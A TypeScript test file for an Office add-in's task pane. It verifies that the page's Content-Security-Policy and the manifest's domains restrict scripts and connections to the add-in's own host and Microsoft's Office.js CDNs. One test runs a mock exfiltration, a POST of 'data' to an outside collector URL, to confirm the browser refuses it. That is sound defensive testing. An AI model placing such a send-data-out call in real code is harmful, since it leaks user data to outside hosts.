/**
 * "Nothing sent" (issue 9): the built task pane declares a Content-Security-Policy that lets scripts and
 * connections reach only its own origin and Microsoft's Office.js CDN, the browser enforces it, and the
 * manifest's AppDomains name nothing but the add-in's own host. (Every other browser test also asserts
 * that no request left the page's origin and that the page threw nothing.)
 */
import { readFileSync } from "fs";
import { join } from "path";
import { describeBrowser, DIST } from "./harness";
import { usePane } from "./steps";

const OFFICE_CDN = "https://appsforoffice.microsoft.com";
/** Office.js loads MicrosoftAjax.js from here on some hosts (office-js #1005, #4131). */
const MICROSOFT_AJAX_CDN = "https://ajax.aspnetcdn.com";

/** The directives of the CSP meta tag of an HTML page. */
function cspOf(html: string): Map<string, string[]> {
  const meta = /<meta\b[^>]*http-equiv=["']?Content-Security-Policy["']?[^>]*>/i.exec(html)?.[0];
  if (meta === undefined) throw new Error("no Content-Security-Policy meta tag");
  const content = /content=(?:"([^"]*)"|'([^']*)')/i.exec(meta);
  const policy = content?.[1] ?? content?.[2] ?? "";
  return new Map(
    policy
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0] !== undefined && d[0] !== "")
      .map(([name, ...sources]) => [name!.toLowerCase(), sources]),
  );
}

describeBrowser("nothing sent", () => {
  const pane = usePane();

  it("taskpane.html carries a CSP: scripts and connections only to 'self' and Microsoft's Office.js CDNs", () => {
    const html = readFileSync(join(DIST, "taskpane.html"), "utf8");
    const csp = cspOf(html);
    expect(csp.get("default-src")).toEqual(["'self'"]);
    expect(csp.get("script-src")).toEqual(["'self'", OFFICE_CDN, MICROSOFT_AJAX_CDN]);
    expect(csp.get("connect-src")).toEqual(["'self'", OFFICE_CDN]);
    expect(csp.get("object-src")).toEqual(["'none'"]);
    expect(csp.get("form-action")).toEqual(["'none'"]);
    expect(csp.get("base-uri")).toEqual(["'self'"]);
    // No directive opens the page to any other host, to inline or evaluated scripts, or to a wildcard.
    for (const [name, sources] of csp) {
      for (const source of sources) {
        expect([name, source]).toEqual([
          name,
          expect.stringMatching(
            /^('self'|'none'|'unsafe-inline'|data:|blob:|https:\/\/appsforoffice\.microsoft\.com|https:\/\/ajax\.aspnetcdn\.com)$/,
          ),
        ]);
      }
      if (name !== "style-src") expect(sources).not.toContain("'unsafe-inline'");
      expect(sources).not.toContain("'unsafe-eval'");
    }
    // The only script from elsewhere is Office.js itself.
    const scripts = [...html.matchAll(/<script\b[^>]*\bsrc=["']?([^"'\s>]+)/gi)].map((m) => m[1]);
    expect(scripts.filter((s) => /^(https?:)?\/\//i.test(s ?? ""))).toEqual([`${OFFICE_CDN}/lib/1/hosted/office.js`]);
  });

  it("the manifest's AppDomains are the add-in's own host only", () => {
    const xml = readFileSync(join(DIST, "manifest.xml"), "utf8");
    const block = /<AppDomains>([\s\S]*?)<\/AppDomains>/.exec(xml)?.[1] ?? "";
    const domains = [...block.matchAll(/<AppDomain>\s*([^<\s]+)\s*<\/AppDomain>/g)].map((m) => m[1]);
    const source = /<SourceLocation DefaultValue="([^"]+)"/.exec(xml)?.[1];
    expect(source).toBeDefined();
    expect(domains).toEqual([new URL(source!).origin]);
    // Every URL of the manifest is on that host (icons, pages, function metadata).
    const hosts = new Set(
      [...xml.matchAll(/DefaultValue="(https:\/\/[^"]+)"|Value="(https:\/\/[^"]+)"/g)].map(
        (m) => new URL(m[1] ?? m[2]!).origin,
      ),
    );
    expect([...hosts]).toEqual([new URL(source!).origin]);
  });

  it.each([["excel"], ["none"]] as const)(
    "the browser enforces the CSP (%s mode): a fetch to another origin is refused before it leaves",
    async (mode) => {
      const { page, outside, finish } = await pane(mode, "en-US");
      const outcome = await page.evaluate(async () => {
        const violation = new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", (e) => {
            resolve(`${e.violatedDirective} ${e.blockedURI}`);
          });
        });
        const result = await fetch("https://example.org/collect", { method: "POST", body: "data" }).then(
          () => "sent",
          () => "refused",
        );
        return { result, violation: await violation };
      });
      expect(outcome.result).toBe("refused");
      expect(outcome.violation).toBe("connect-src https://example.org/collect");
      expect(outside).toEqual([]);
      await finish();
    },
    30_000,
  );
});
